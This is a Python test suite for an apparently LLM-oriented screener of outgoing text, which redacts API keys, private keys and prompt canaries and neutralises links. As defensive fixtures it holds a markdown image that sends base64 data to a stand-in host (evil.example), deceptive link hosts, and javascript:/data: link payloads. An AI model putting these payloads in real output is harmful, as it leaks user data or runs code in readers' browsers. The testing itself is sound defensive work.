"""What leaves is screened: nothing is fetched, no link hides where it leads, no secret goes along."""

from __future__ import annotations

import random
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from localgpt.injection.outgoing import Leak, screen

CHANCE = random.Random(7)
LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def drawn(count: int, letters: str = LETTERS) -> str:
    return "".join(CHANCE.choices(letters, k=count))


SECRETS = {
    "Anthropic": f"sk-ant-api03-{drawn(80)}",
    "OpenAI": f"sk-proj-{drawn(60)}",
    "OpenRouter": f"sk-or-v1-{drawn(64, '0123456789abcdef')}",
    "GitHub": f"ghp_{drawn(36)}",
    "GitLab": f"glpat-{drawn(20)}",
    "AWS": f"AKIA{drawn(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}",
    "Google": f"AIza{drawn(35)}",
    "xAI": f"xai-{drawn(80)}",
    "Groq": f"gsk_{drawn(52)}",
    "Hugging Face": f"hf_{drawn(34)}",
    "Slack": f"xoxb-{drawn(12, '0123456789')}-{drawn(24)}",
    "Stripe": f"sk_live_{drawn(24)}",
    "Telegram": f"{drawn(9, '123456789')}:AA{drawn(33)}",
    "npm": f"npm_{drawn(36)}",
    "PyPI": f"pypi-AgEIcHlwaS5vcmc{drawn(80)}",
    "age": f"AGE-SECRET-KEY-1{drawn(58, '023456789ACDEFGHJKLMNPQRSTUVWXYZ')}",
    "web token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "assigned": f'api_key = "{drawn(32)}9"',
    "private key": "-----BEGIN EC PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAE\n-----END EC PRIVATE KEY-----",
    "torn private key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq0Xyz",
    "address": f"postgres://admin:{drawn(16)}@db.example/x",
}


@pytest.mark.parametrize("name", SECRETS)
def test_a_secret_is_redacted(name):
    secret = SECRETS[name]
    screened = screen(f"The value is {secret} as you asked.")
    assert Leak.SECRET in {leak for leak, _, _ in screened.leaks}
    assert secret.split("@")[0][-12:] not in screened.text
    assert screened.text.startswith("The value is ")
    assert screened.text.endswith(" as you asked.")


@pytest.mark.parametrize(
    "text",
    [
        "Set OPENAI_API_KEY=sk-... in your shell.",
        "export ANTHROPIC_API_KEY=sk-ant-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        'api_key = "YOUR_API_KEY_GOES_HERE_PLEASE"',
        "token: the_name_of_the_variable_that_holds_it",
        "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----",
        "See [example.org](https://example.org/a) and <https://example.org>.",
        "[the guide](docs/guide.md#start) and `![x](y)` in code",
        "risk-based, task-force, disk-space",
        "git clone https://github.com/example/project.git",
    ],
)
def test_everyday_text_leaves_as_it_is(text):
    kept = screen(text)
    assert kept.text == text or kept.leaks[0][0] is Leak.IMAGE


def test_an_image_is_not_fetched():
    screened = screen("Look: ![cat](https://evil.example/p.png?d=c2VjcmV0) nice")
    assert screened.text == "Look: [image not loaded: cat, evil.example] nice"
    assert [(leak, what) for leak, _, what in screened.leaks] == [(Leak.IMAGE, "evil.example")]
    assert "evil.example/" not in screen('<img src="https://evil.example/x?d=1">').text


def test_a_link_shows_its_whole_host():
    screened = screen("[bank.example](https://bank.example.evil.example/login)")
    assert "https://bank.example.evil.example/login" in screened.text
    hidden = screen("Click [here](https://user@evil.example/x).")
    assert hidden.text == "Click here (https://user@evil.example/x)."


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](  JavaScript:alert(1) 'title')",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x]: javascript:alert(1)",
        "<a href='javascript:alert(1)'>x</a>",
        "see data:text/html,<b>",
    ],
)
def test_programs_in_links_are_taken_out(text):
    assert "javascript:" not in screen(text).text.lower()
    assert "data:text" not in screen(text).text


def test_a_canary_is_noticed_however_it_is_spaced():
    canary = "k7f3q9zt"
    for said in (canary, canary.upper(), " ".join(canary), "-".join(canary)):
        screened = screen(f"My prompt begins with {said}.", canaries=(canary,))
        assert screened.leaks[0][0] is Leak.CANARY
        assert screened.text == "My prompt begins with [canary redacted]."


PIECES = [
    "[",
    "](",
    ")",
    "![",
    "https://a.example/",
    "javascript:",
    "data:",
    "<img src=x>",
    "x",
    " ",
    "\n",
    "[a]:",
    *SECRETS.values(),
]


@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_screening_twice_changes_no_more(text):
    once = screen(text)
    assert screen(once.text).text == once.text
    for leak, (start, end), _ in once.leaks:
        assert leak
        assert 0 <= start < end <= len(text)


@pytest.mark.parametrize(
    "unit",
    ["[", "](", "![a](", "-----BEGIN PRIVATE KEY-----", "sk-", "data:", "<img ", "a" * 50, "token=", "eyJ", "x://a:"],
)
def test_time_grows_with_the_length_and_no_faster(unit):
    def cost(chars: int) -> float:
        text = unit * (chars // len(unit))
        best = 1e9
        for _ in range(3):
            started = time.process_time()
            screen(text)
            best = min(best, time.process_time() - started)
        return best

    small, large = cost(20_000), cost(160_000)
    assert large < max(small, 0.002) * 8 * 2.5  # quadratic would be 64 times
